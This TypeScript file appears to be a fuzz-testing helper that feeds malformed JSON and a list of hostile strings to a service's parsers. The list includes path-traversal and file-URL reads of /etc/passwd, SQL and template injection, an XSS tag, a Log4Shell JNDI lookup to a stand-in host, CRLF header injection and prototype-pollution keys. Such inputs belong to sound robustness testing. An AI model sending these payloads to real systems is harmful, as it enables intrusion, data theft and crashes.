import type { Random } from "./random";

/** Text that has broken somebody's parser, path, query or log. */
export const hostileTexts = [
  "",
  " ",
  ".",
  "..",
  "../../etc/passwd",
  "a/b",
  "a\\b",
  "%",
  "%2F",
  "%2e%2e%2f",
  "%00",
  "\u0000",
  "a\u0000b",
  "\u202eabc",
  "\ufeff",
  "\ud800",
  "ção não é ascii",
  "名前",
  "👩‍👩‍👧‍👦",
  "'; DROP TABLE instance; --",
  '" OR ""="',
  "${jndi:ldap://x.invalid/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "a\r\nx-injected: yes",
  "a\nb",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "-1",
  "1e309",
  "9".repeat(400),
  "x".repeat(300),
  "x".repeat(5000),
  "5511988887777",
  "5511988887777@s.whatsapp.net",
  "120363000000000000@g.us",
  "status@broadcast",
  "@g.us",
  "+55 (11) 98888-7777",
  "http://127.0.0.1:9/",
  "file:///etc/passwd",
  "data:text/plain;base64,AAAA",
  "2026-11-23T00:00:00Z",
] as const;

const prototypeNames = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "length",
  "then",
  "toJSON",
];

/** Any JSON value at all, rarely a large one. */
export function junk(random: Random, depth = 3): unknown {
  switch (random.below(depth > 0 ? 14 : 9)) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
      return random.pick([0, -1, 1, 1.5, 1e308, -1e308, 2 ** 53, -(2 ** 53), 2 ** 31, 1e-9, 255, 256]);
    case 3:
    case 4:
    case 5:
    case 6:
      return random.pick(hostileTexts);
    case 7:
      return [];
    case 8:
      return {};
    case 9:
      return Array.from({ length: random.below(4) }, () => junk(random, depth - 1));
    case 10:
      return Array.from({ length: 200 }, (_, at) => at);
    case 11:
      return nested(random.pick([5, 50, 500]), random.chance(0.5));
    default:
      return Object.fromEntries(
        Array.from({ length: random.below(4) }, () => [
          random.chance(0.3) ? random.pick(prototypeNames) : random.pick(hostileTexts).slice(0, 40),
          junk(random, depth - 1),
        ]),
      );
  }
}

function nested(levels: number, list: boolean): unknown {
  let value: unknown = 1;
  for (let level = 0; level < levels; level++) value = list ? [value] : { a: value };
  return value;
}

/** The value with something in it spoiled: a leaf replaced, a field lost, one more than there should be. */
export function spoil(random: Random, value: unknown, share: number): unknown {
  if (random.chance(share)) return junk(random);
  if (Array.isArray(value)) return value.map((item) => spoil(random, item, share));
  if (typeof value !== "object" || value === null) return value;
  const fields = Object.entries(value)
    .filter(() => !random.chance(share / 2))
    .map(([name, item]) => [name, spoil(random, item, share)] as [string, unknown]);
  if (random.chance(share)) fields.push([random.pick(prototypeNames), junk(random, 1)]);
  return Object.fromEntries(fields);
}

/** The text of a body that may be no JSON, or more of it than anybody wants. */
export function spoiltText(random: Random, value: unknown): string {
  const text = JSON.stringify(value) ?? "";
  switch (random.below(9)) {
    case 0:
      return text.slice(0, random.below(text.length + 1));
    case 1:
      return "[".repeat(random.pick([10, 1000, 50_000]));
    case 2: {
      const levels = random.pick([100, 5000, 20_000]);
      return `{"text":${"[".repeat(levels)}${"]".repeat(levels)},"number":"5511988887777"}`;
    }
    case 3:
      return random.pick(hostileTexts);
    case 4:
      return `\ufeff${text}`;
    case 5:
      return text.replace(/\d+/g, "1e999");
    case 6:
      // Two fields of one name, the latter of which wins in most parsers.
      return text.startsWith("{") && text.length > 2 ? `${text.slice(0, -1)},${text.slice(1)}` : text;
    case 7:
      return `{"__proto__":${text},"constructor":{"prototype":${text}}}`;
    default:
      return `${text}${text}`;
  }
}
